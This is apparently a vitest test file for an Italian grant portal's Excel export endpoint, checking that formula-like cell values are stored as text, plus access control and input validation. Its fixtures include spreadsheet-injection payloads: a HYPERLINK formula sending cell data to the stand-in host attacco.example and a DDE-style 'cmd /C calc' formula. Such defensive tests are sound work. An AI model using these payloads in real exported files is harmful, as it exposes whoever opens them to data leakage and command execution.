import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/testApp.ts';
import { personWithOrganization } from '../support/organizationFixtures.ts';
import { forceApplicationStatus } from '../support/applicationFixtures.ts';

let t: TestApp;
let admin: { token: string };
let applicant: Awaited<ReturnType<typeof personWithOrganization>>;
let dangerousId: string;
let plainId: string;
let puiId: string;

/** Text a spreadsheet would evaluate if it were written as a formula or typed into a cell. */
const injections = {
  progNome: '=HYPERLINK("http://attacco.example/?d="&A1,"Clicca qui")',
  descrizione: '+39 06 1234567',
  costiNomeCofinanziamento: '-2+3',
  progComune: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  progAreaTematica: '\tTabulazione iniziale',
  tempiDescrizione: '\rRitorno a capo iniziale',
};

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.loginAsAdmin();
  applicant = await personWithOrganization(t, { name: '=Comune di Formula' });
  const other = await personWithOrganization(t, { name: 'Comune di Borgo Sereno' });
  dangerousId = await forceApplicationStatus(t, applicant.orgId, 'TUR', 'CANDIDATURA_SOTTOMESSA', {
    body: { ...injections, costiIintervento: 2_500_000.5, progInherentPui: true, tipoIntervento: ['Restauro', '=1+1'] },
    warnings: ['=Avviso che sembra una formula', 'Quota del fondo superiore al 50% del totale'],
    submittedAt: new Date('2026-04-15T08:30:00Z'),
  });
  plainId = await forceApplicationStatus(t, other.orgId, 'TUR', 'APERTA', { draft: { progNome: 'Sentiero delle vigne' } });
  puiId = await forceApplicationStatus(t, other.orgId, 'PUI', 'CANDIDATURA_SOTTOMESSA', { body: { progNome: 'Non nel file TUR' } });
});
afterAll(() => t.close());

function download(body: unknown, token?: string) {
  return t.app.inject({
    method: 'POST',
    url: '/api/DraftCompilazione/DownloadExcelCompilazioni',
    headers: token ? { authorization: `Bearer ${token}` } : {},
    payload: body as object,
  });
}

async function readBack(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Map<string, ExcelJS.Cell>[] = [];
  for (let r = 2; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    rows.push(new Map(headers.map((h, i) => [h, row.getCell(i + 1)])));
  }
  return { sheet, headers, rows };
}

describe('POST /api/DraftCompilazione/DownloadExcelCompilazioni', () => {
  it('streams Lista-candidature-TUR.xlsx with the chosen TUR applications, by organisation name', async () => {
    const response = await download({ compilazioniId: [plainId, dangerousId, puiId], callType: 'TUR' }, admin.token);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers['content-disposition']).toBe('attachment; filename="Lista-candidature-TUR.xlsx"');
    expect(response.headers['transfer-encoding']).toBe('chunked');

    const { headers, rows } = await readBack(response.rawPayload);
    expect(headers.slice(0, 8)).toEqual(['Organizzazione', 'P.IVA', 'E-mail', 'Stato', 'Data candidatura', 'Ultimo cambio di stato', 'Avvisi', 'Dati']);
    expect(rows).toHaveLength(2);
    expect(rows.map((r) => r.get('Organizzazione')!.value)).toEqual(['=Comune di Formula', 'Comune di Borgo Sereno']);
    const [dangerous, plain] = rows as [Map<string, ExcelJS.Cell>, Map<string, ExcelJS.Cell>];
    expect(dangerous.get('Stato')!.value).toBe('Candidatura Sottomessa');
    expect(dangerous.get('Dati')!.value).toBe('Candidatura');
    // 08:30 UTC in April is 10:30 in Italy.
    expect((dangerous.get('Data candidatura')!.value as Date).toISOString()).toBe('2026-04-15T10:30:00.000Z');
    expect(dangerous.get('costiIintervento')!.value).toBe(2_500_000.5);
    expect(dangerous.get('progInherentPui')!.value).toBe('Sì');
    expect(plain.get('Dati')!.value).toBe('Bozza');
    expect(plain.get('progNome')!.value).toBe('Sentiero delle vigne');
    expect(headers).not.toContain('Non nel file TUR');
  });

  it('writes every cell that starts with =, +, -, @, tab or CR as text, never as a formula', async () => {
    const response = await download({ compilazioniId: [dangerousId], callType: 0 }, admin.token);
    const { rows } = await readBack(response.rawPayload);
    const row = rows[0]!;
    const cells: [ExcelJS.Cell, string][] = [
      [row.get('Organizzazione')!, '=Comune di Formula'],
      [row.get('Avvisi')!, '=Avviso che sembra una formula\nQuota del fondo superiore al 50% del totale'],
      [row.get('tipoIntervento')!, 'Restauro, =1+1'],
      ...Object.entries(injections).map(([key, text]): [ExcelJS.Cell, string] => [row.get(key)!, text]),
    ];
    for (const [cell, text] of cells) {
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, text).toBeUndefined();
      expect(cell.numFmt, text).toBe('@');
      // XML parsers turn a lone CR into a line feed: the text is otherwise kept exactly.
      expect(String(cell.value).replace(/^\n/, '\r'), text).toBe(text);
    }
  });

  it('accepts PUI by name or by compilazioneType and leaves TUR ids out', async () => {
    const response = await download({ compilazioniId: [puiId, dangerousId], callType: 'pui' }, admin.token);
    expect(response.headers['content-disposition']).toBe('attachment; filename="Lista-candidature-PUI.xlsx"');
    const { rows } = await readBack(response.rawPayload);
    expect(rows.map((r) => r.get('progNome')!.value)).toEqual(['Non nel file TUR']);
  });

  it('refuses applicants (403) and anonymous callers (401); 400 for no ids or an unknown fund', async () => {
    const forbidden = await download({ compilazioniId: [dangerousId], callType: 'TUR' }, applicant.token);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().message).toBe('Non hai i permessi per questa operazione.');
    expect((await download({ compilazioniId: [dangerousId], callType: 'TUR' })).statusCode).toBe(401);
    expect((await download({ compilazioniId: [], callType: 'TUR' }, admin.token)).statusCode).toBe(400);
    const unknownFund = await download({ compilazioniId: [dangerousId], callType: 'FESR' }, admin.token);
    expect(unknownFund.statusCode).toBe(400);
    expect(unknownFund.json().message).toBe('Fondo non valido: indicare TUR o PUI.');
    expect((await download({ compilazioniId: ['non-un-id'], callType: 'TUR' }, admin.token)).statusCode).toBe(400);
  });
});
